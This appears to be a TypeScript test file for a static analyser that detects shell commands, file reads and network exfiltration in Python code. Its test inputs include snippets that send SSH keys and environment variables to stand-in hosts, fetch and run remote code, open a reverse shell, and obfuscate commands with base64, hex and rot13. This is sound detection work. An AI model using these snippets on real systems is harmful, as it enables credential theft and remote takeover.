import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

describe("commands and effects of Python", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "python", text);

  const commands: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["shell text", 'import os\nos.system("ssh -R 1:2:3 h")', "ssh -R=1:2:3 -- h"],
    ["an argument list", 'import subprocess\nsubprocess.run(["ssh", "-R", "1:2:3", "h"])', "ssh -R=1:2:3 -- h"],
    ["a tuple", 'import subprocess\nsubprocess.call(("ssh", "-R", "1:2:3", "h"))', "ssh -R=1:2:3 -- h"],
    ["text with shell=True", 'from subprocess import Popen\nPopen("nohup ssh -R 1:2:3 h &", shell=True)', "ssh -R=1:2:3 -- h"],
    ["a list with shell=True", 'from subprocess import Popen\nPopen(["a | b"], shell=True)', "a | b"],
    ["a name for a module", 'import subprocess as sp\nsp.run(["nmap", "h"])', "nmap -- h"],
    ["a name for a function", 'from subprocess import run as r\nr(["nmap", "h"])', "nmap -- h"],
    ["everything of a module", 'from os import *\nsystem("nmap h")', "nmap -- h"],
    ["an alias of a function", 'import subprocess\nrun = subprocess.run\nrun(["nmap", "h"])', "nmap -- h"],
    ["getattr", 'import os\ngetattr(os, "sys" + "tem")("nmap h")', "nmap -- h"],
    ["__import__", '__import__("os").system("nmap h")', "nmap -- h"],
    ["importlib", 'import importlib\nimportlib.import_module("os").popen("nmap h")', "nmap -- h"],
    ["os.exec, whose first argument is a name only", 'import os\nos.execvp("nmap", ["scanner", "h"])', "nmap -- h"],
    ["os.execl", 'import os\nos.execlp("nmap", "scanner", "h")', "nmap -- h"],
    ["pty", 'import pty\npty.spawn("/bin/sh")', "sh"],
    ["asyncio", 'import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec("nmap", "h")', "nmap -- h"],
    ["words of a constant", "import shlex, subprocess\nsubprocess.run(shlex.split(\"nmap -p 1 'a b'\"))", "nmap -p=1 -- 'a b'"],
    [
      "a list that grows",
      'import subprocess\nc = ["nmap"]\nc.append("-p1")\nc += ["h"]\nc.extend(["i"])\nsubprocess.run(c)',
      "nmap -p=1 -- h i",
    ],
    ["lists added", 'import subprocess\nsubprocess.run(["nmap"] + ["h"])', "nmap -- h"],
    ["raw strings", 'import os\nos.system(r"nmap \\x68")', "nmap -- x68"],
    ["spread arguments", 'import os\na = ["x", "h", "i"]\nos.execlp("nmap", *a)', "nmap -- h i"],
    ["a spread list", 'import subprocess\na = ["h", "i"]\nsubprocess.run(["nmap", *a])', "nmap -- h i"],
    ["base64", 'import os, base64\nos.system(base64.b64decode("bm1hcCBo").decode())', "nmap -- h"],
    ["hexadecimal", 'import os\nos.system(bytes.fromhex("6e6d61702068").decode())', "nmap -- h"],
    ["joined characters", 'import os\nos.system("".join([chr(c) for c in [110, 109, 97, 112]]))', "nmap"],
    ["rot13", 'import os, codecs\nos.system(codecs.decode("aznc u", "rot13"))', "nmap -- h"],
    ["format", 'import os\nos.system("nmap {} {x}".format("h", x="i"))', "nmap -- h i"],
    ["percent", 'import os\nos.system("nmap %s -p %d" % ("h", 1))', "nmap -p=1 -- h"],
    ["f-strings", 'import os\nh = "h"\nos.system(f"nmap {h}:{{}}")', "nmap -- 'h:{}'"],
    ["reversed and replaced text", 'import os\nos.system("n-m-a-p h".replace("-", ""))', "nmap -- h"],
    ["an unknown part", "import os\ndef f(host):\n    os.system(f'nmap {host}')", 'nmap -- "$host"'],
    ["several possible values", 'import os\nh = "a" if x else "b"\nos.system("nmap " + h)', "nmap -- a", "nmap -- b"],
    ["a value set in a branch", 'import os\nh = "a"\nif x:\n    h = "b"\nos.system("nmap " + h)', "nmap -- b", "nmap -- a"],
    ["only the branch's own value inside of it", 'import os\nh = "a"\nif x:\n    h = "b"\n    os.system("nmap " + h)', "nmap -- b"],
    ["no value of another branch", 'import os\nh = "a"\nif x:\n    h = "b"\nelse:\n    os.system("nmap " + h)', "nmap -- a"],
    ["a function of one's own", 'import os\ndef run(c):\n    os.system(c)\nrun("nmap h")', "nmap -- h"],
    ["a default", 'import os\ndef run(c="nmap h"):\n    os.system(c)\nrun()', "nmap -- h"],
    ["a keyword", 'import os\ndef run(a, c):\n    os.system(c)\nrun(1, c="nmap h")', "nmap -- h"],
    ["what a function returns", 'import os\ndef target():\n    return "h"\nos.system("nmap " + target())', "nmap -- h"],
    [
      "a class",
      'import os\nclass A:\n    def __init__(self, h):\n        self.h = h\n    def go(self):\n        os.system("nmap " + self.h)\nA("h").go()',
      "nmap -- h",
    ],
    ["a function in itself", "import os\ndef f(n):\n    os.system('nmap h')\n    f(n - 1)\nf(3)", "nmap -- h"],
    [
      "Python in the shell in Python",
      `import os\nos.system("python3 -c 'import os; os.system(\\"nmap h\\")'")`,
      `python3 '-c=import os; os.system("nmap h")'`,
      "nmap -- h",
    ],
    ["a removal", 'import os\nos.remove("/a")', "rm -- /a"],
    ["a removal of a tree", 'import shutil\nshutil.rmtree("/a")', "rm -f -r -- /a"],
    ["a change of mode", 'from pathlib import Path\nPath("/a").chmod(0o755)', "chmod -- '0755' /a"],
    ["code that is run", `exec("import os; os.system('nmap h')")`, "nmap -- h"],
    ["Python 2", "import os\nexec 'import os; os.system(\"nmap h\")'\nprint 'x'", "nmap -- h"],
  ];
  for (const [title, text, ...expected] of commands) {
    it(`sees the command through ${title}`, async () => assert.deepEqual(await lines(text), expected));
  }

  const effects: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    [
      "a file posted",
      'import os, requests\nrequests.post("https://u@X.example:1/in", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    [
      "a file read under with",
      'import requests\nwith open("/a") as f:\n    d = f.read()\nrequests.post("http://x.example", json={"d": d})',
      ":read /a | :send x.example",
    ],
    [
      "encodings on the way",
      'import requests, json, base64, gzip\nd = base64.b64encode(gzip.compress(open("/a", "rb").read()))\nrequests.put("http://x.example", json.dumps({"d": [d]}))',
      ":read /a | :send x.example",
    ],
    [
      "a path object",
      'import requests\nfrom pathlib import Path\nrequests.post("http://x.example", data=(Path.home() / ".ssh" / "id_rsa").read_text())',
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    [
      "the whole environment",
      'import os, requests\nrequests.post("http://x.example", json=dict(os.environ))',
      ":env '*' | :send x.example",
    ],
    ["one variable", 'import os, requests\nrequests.post("http://x.example", json=os.environ["T"])', ":env T | :send x.example"],
    ["a variable by function", 'import os, requests\nrequests.get("http://x.example/?q=" + os.getenv("T"))', ":env T | :send x.example"],
    [
      "urllib",
      'import urllib.request as u\nr = u.Request("http://x.example", data=open("/a").read().encode())\nu.urlopen(r)',
      ":read /a | :send x.example",
    ],
    [
      "a socket",
      'import socket\ns = socket.socket()\ns.connect(("1.2.3.4", 5))\ns.sendall(open("/a", "rb").read())',
      ":read /a | :send '1.2.3.4'",
      ":connect '1.2.3.4' '5'",
    ],
    ["code that was fetched", 'import requests\nexec(requests.get("http://x.example/p").text)', ":fetch http://x.example/p | :run python"],
    [
      "shell text that was fetched",
      'import os, requests\nos.system(requests.get("http://x.example/p").text)',
      ":fetch http://x.example/p | :run sh",
    ],
    [
      "a fetched file that is run",
      'import os, urllib.request\nurllib.request.urlretrieve("http://x.example/p", "/tmp/p")\nos.system("sh /tmp/p")',
      "sh -- /tmp/p",
      ":fetch http://x.example/p | :write /tmp/p",
      ":fetch http://x.example/p | :run sh",
    ],
    [
      "a file written and run",
      'import subprocess, requests\nopen("/tmp/p", "wb").write(requests.get("http://x.example/p").content)\nsubprocess.run(["/tmp/p"])',
      "/tmp/p",
      ":fetch http://x.example/p | :write /tmp/p",
      ":fetch http://x.example/p | :run /tmp/p",
    ],
    [
      "what a command printed",
      'import subprocess, requests\nk = subprocess.check_output(["cat", "/a"])\nrequests.post("http://x.example", data=k)',
      "cat -- /a",
      ":read /a | :send x.example",
    ],
    [
      "input of a command",
      'import subprocess, requests\nsubprocess.run(["sh"], input=requests.get("http://x.example/p").text)',
      "sh",
      ":fetch http://x.example/p | :run sh",
    ],
    [
      "a method under a name of its own",
      'import socket, subprocess\ns = socket.socket()\ns.connect(("1.2.3.4", 5))\nf = s.fileno\nsubprocess.call(["/bin/sh"], stdin=f())',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "a descriptor that is written to",
      'import os, socket, subprocess\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\ns = socket.create_connection(("1.2.3.4", 5))\nos.write(p.stdin.fileno(), s.recv(9))',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "a class made of a server's handler",
      "import os, socketserver\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        os.system(self.rfile.readline())",
      ":fetch '0.0.0.0' | :run sh",
    ],
    [
      "the request that a page answers",
      'import os, flask\ndef page():\n    os.system(flask.request.args["c"])',
      ":fetch '0.0.0.0' | :run sh",
    ],
    [
      "a shell on a socket",
      'import socket, subprocess, os\ns = socket.socket()\ns.connect(("1.2.3.4", 5))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
      "sh -i",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "a helper that sends",
      'import requests\ndef out(d):\n    requests.post("http://x.example", data=d)\nout(open("/a").read())',
      ":read /a | :send x.example",
    ],
    [
      "a form that is filled",
      'import requests\nm = Form()\nm.attach(open("/a").read())\nrequests.post("http://x.example", data=m)',
      ":read /a | :send x.example",
    ],
    [
      "a loop over files",
      'import requests\nfor p in ["/a", "/b"]:\n    requests.post("http://x.example", data=open(p).read())',
      ":read /a | :send x.example",
      ":read /b | :send x.example",
    ],
    ["a copy", 'import shutil\nshutil.copy("/a", "/b")', ":read /a | :write /b"],
    ["what is compiled", 'import py_compile\npy_compile.compile("/a.py", cfile="/b.pyc")', ":read /a.py | :write /b.pyc"],
    ["a server", 'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 80))', ":listen '80'"],
    ["mail", 'import smtplib\ns = smtplib.SMTP("m.example", 25)\ns.sendmail("a", "b", open("/a").read())', ":read /a | :send m.example"],
    [
      "a bucket",
      'import boto3\nboto3.client("s3").put_object(Bucket="b", Key="k", Body=open("/a").read())',
      ":read /a | :send amazonaws.com",
    ],
  ];
  for (const [title, text, ...expected] of effects) {
    it(`follows ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:fetch \S+$/.test(line)),
        expected,
      ));
  }

  const silent: readonly (readonly [title: string, text: string])[] = [
    ["text that is only printed", 'print("ssh -R 1:2:3 h")'],
    ["a function of the same name", 'def system(c):\n    return c\nsystem("nmap h")'],
    ["a length that is sent", 'import requests\nrequests.post("http://x.example", data=len(open("/a").read()))'],
    ["an answer of its own", 'import requests\nr = requests.post("http://x.example", data="x")\nprint(r.text)'],
    ["a comparison that is sent", 'import requests, os\nrequests.post("http://x.example", data=os.getenv("T") == "a")'],
  ];
  for (const [title, text] of silent) {
    it(`sees no flow in ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:(?:fetch|read) \S+$/.test(line)),
        [],
      ));
  }

  it("names the host's function in via, outermost first", async () => {
    assert.deepEqual(await viaOf(analyser, "python", 'import subprocess as sp\nsp.run("sudo nmap h", shell=True)'), [
      ["python:subprocess.run", "sudo"],
    ]);
  });

  it("marks a command from its first word to its last, in the file", async () => {
    assert.deepEqual(await commandSpans(analyser, "python", 'import os\nos.system("timeout 5 nmap h; x")'), ["nmap h", "x"]);
    assert.deepEqual(await commandSpans(analyser, "python", 'import subprocess\nsubprocess.run(["nmap", "-p", "1", "h"])'), [
      'nmap", "-p", "1", "h',
    ]);
  });

  it("marks a command that comes by a name where it is used", async () => {
    assert.deepEqual(await commandSpans(analyser, "python", 'import os\ncmd = "nmap h"\nprint(1)\nos.system(cmd)'), ["cmd"]);
  });

  it("marks words behind an escape as the escape", async () => {
    assert.deepEqual(await commandSpans(analyser, "python", 'import os\nos.system("a \\x62 c")'), ["a \\x62 c"]);
  });

  it("says of a command that it cannot know", async () => {
    const result = await analyser.analyse({ path: "a.py", text: "import subprocess\ndef f(c):\n    subprocess.run(c)\n" }, 5_000);
    assert.deepEqual(
      result.problems.map(({ code, weight, range }) => [code, weight, range?.start.line]),
      [["unresolved-name", "note", 2]],
    );
    assert.equal(result.coverage, "partial");
  });

  it("says where the code cannot be parsed, and analyses the rest", async () => {
    const text = "import os\nx = = 1\nos.system('nmap h')\n";
    const result = await analyser.analyse({ path: "a.py", text }, 5_000);
    assert.deepEqual(
      result.problems.map(({ code, weight, range }) => [code, weight, range?.start.line]),
      [["unparsed", "blocking", 1]],
    );
    assert.deepEqual(await lines(text), ["nmap -- h"]);
  });

  it("says that code is nested too deeply to be followed", async () => {
    const result = await analyser.analyse({ path: "a.py", text: `x = ${"[".repeat(900)}${"]".repeat(900)}\nf(x)\n` }, 5_000);
    assert.deepEqual(
      result.problems.map(({ code, weight }) => [code, weight]),
      [["too-deep", "blocking"]],
    );
  });

  it("adds up a sum of five thousand parts", async () => {
    const text = `import os\nos.system(${Array.from({ length: 5_000 }, () => '"a"').join(" + ")})\n`;
    assert.deepEqual(await lines(text), ["a".repeat(5_000)]);
  });

  // The clock goes on by one each time that somebody asks, so that these are places in the work.
  const deadlines: readonly (readonly [deadline: number, what: string])[] = [
    [20, "parse"],
    [95, "follow"],
  ];
  for (const [deadline, what] of deadlines) {
    it(`stops at its deadline when there is still much to ${what}, and says so`, async () => {
      let time = 0;
      const hurried = await testAnalyser({}, () => time++);
      const text = `def f(x):\n${"    g(x)\n".repeat(20)}${"f(1)\n".repeat(200)}`;
      const result = await hurried.analyse({ path: "a.py", text }, deadline);
      assert.deepEqual(
        result.problems.map(({ code, weight }) => [code, weight]),
        [["deadline", "blocking"]],
      );
      assert.match(result.problems[0]?.message ?? "", new RegExp(`^It took too long to ${what}\\.`));
      assert.ok(time <= deadline + 2, `it asked for the time ${time} times`);
    });
  }
});
